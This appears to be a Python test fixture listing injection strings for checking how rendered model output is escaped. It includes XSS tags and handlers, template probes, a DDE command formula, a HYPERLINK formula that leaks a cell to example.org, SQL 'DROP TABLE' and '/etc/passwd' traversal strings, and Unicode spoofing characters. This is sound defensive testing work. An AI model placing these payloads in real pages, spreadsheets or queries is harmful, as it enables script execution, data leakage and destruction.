"""Texts that a model could write and that would do something, if an output let them: run, format, link, hide, compute.

Where one of them runs as a script, it sets ``window.RAN``. Half of a surrogate pair can be in no UTF-8 file: write
these to JSON with ``ensure_ascii=True``, as a file from elsewhere could hold it.
"""

RAN = "window.RAN=1"

HOSTILE_TEXTS = [
    # markup that runs
    f"<script>{RAN}</script>",
    f"</script><script>{RAN}</script>",
    f"</ScRiPt ><script>{RAN}</script>",
    f"<!--<script>{RAN}//--></script>",
    f"<!-- --!><script>{RAN}</script> ]]> <![CDATA[",
    f"<img src=x onerror={RAN}><svg onload={RAN}><body onfocus={RAN} autofocus>",
    f"\" onmouseover=\"{RAN}\" x=\"' onfocus='{RAN}' autofocus ' `",
    f"</textarea></title></style></noscript></template></xmp><script>{RAN}</script>",
    f'<iframe srcdoc="<script>parent.{RAN}</script>"></iframe><object data="javascript:{RAN}"></object>',
    f'<a href="javascript:{RAN}">click</a><form action="javascript:{RAN}"><button>go</button></form>',
    '<style>*{display:none!important}</style><link rel=stylesheet href="https://example.org/x.css">',
    '<meta http-equiv=refresh content="0;url=https://example.org/"><base href="https://example.org/">',
    f"<math><mtext></p><style><img src=x onerror={RAN}></style>",
    f'{{"__proto__": {{"RAN": 1}}, "constructor": "{RAN}"}}',
    # templates and scripts
    "{{7*7}} {% for x in range(9) %}x{% endfor %} {# gone #} {{ ''.__class__.__mro__ }}",
    f"${{{RAN}}} `${{{RAN}}}` \\u003cscript\\u003e{RAN}\\u003c/script\\u003e",
    f"'); {RAN}; ('  \"); {RAN}; //  \\'); {RAN}; */ /*",
    f"one\u2028{RAN}\u2029three",
    "%s %d %(name)s {0} {name} \\n \\x3c &lt;b&gt; &#60;b&#62;",
    # Markdown
    "| a | b |\n|---|---|\n| **c** | `d` | [x](javascript:alert(1)) ![y](https://example.org/z.png)",
    "# heading\n- item\n> quote\n```\nfence\n~~~\n<details><summary>open</summary>\n\n---\n@someone #1 https://example.org",
    "````` `` ``` a <br> \\| \\` _x_ *y* ~~z~~ $x_1^2$ $$\\frac{1}{0}$$ [^1]: note",
    # spreadsheets
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("https://example.org?"&A1,"x")',
    "+1+1",
    "-2+3",
    "@SUM(1;1)",
    "\t=1+1",
    "\r=1+1",
    'a","b"\n"=1+1","c',
    # terminals
    "\x1b[31mred\x1b[0m \x1b]0;title\x07 \x1b[2J\x1b[H \x9b31m \x1b]8;;https://example.org\x1b\\link\x1b]8;;\x1b\\",
    "\x00\x01\x02\x08\x0b\x0c\x0e\x1f\x7f\x80\x85\x9f",
    "[bold red]rich[/bold red] [/] [link=https://example.org]x[/link] [on blink]",
    "one\r\ntwo\rthree\n\n\nfour\tfive",
    # letters that hide, turn round or do not exist
    "\u202eabc\u202c \u2066def\u2069 \u200fghi\u200e \u061c",
    "a\u200bb\u200cc\u200dd\u2060e\ufefff\u00adg\u034fh\u180ei",
    "\ud800 half \udc00\ud83d",
    "\ufffe\uffff\U0001fffe\U0010ffff",
    "\U000e0041\U000e0042\U000e007f tags",
    "Z" + "\u0300\u0301\u0302\u0303\u0304" * 60 + "algo",
    "\u05e9\u05dc\u05d5\u05dd \u0645\u0631\u062d\u0628\u0627 (abc) 123",
    "\u4eca\u65e5\u306f\u4e16\u754c\u3002\u4eca\u65e5\u306f\u4e16\u754c\u3002 \u0e2a\u0e27\u0e31\u0e2a\u0e14\u0e35",
    "\U0001f468\u200d\U0001f469\u200d\U0001f467\u200d\U0001f466 \U0001f1e9\U0001f1ea \u2764\ufe0f \U0001f3f3\ufe0f",
    "\ufdfd\u1e9e\u0130\u0131\ufb01 \u212b\u00c5 e\u0301\u00e9",
    # sizes
    "x" * 100_000,
    "word " * 20_000,
    "<b>" * 20_000,
    "\x1b" * 3_000,
    "\n" * 3_000,
    "a b c d " * 500,
    "",
    " ",
    "\n\t\n",
    # words that mean something to a program
    "null",
    "NaN",
    "Infinity",
    "-0",
    "1e309",
    "true",
    "../../etc/passwd",
    "C:\\con\\nul",
    "'; DROP TABLE trials; --",
    "constructor",
    "__proto__",
]
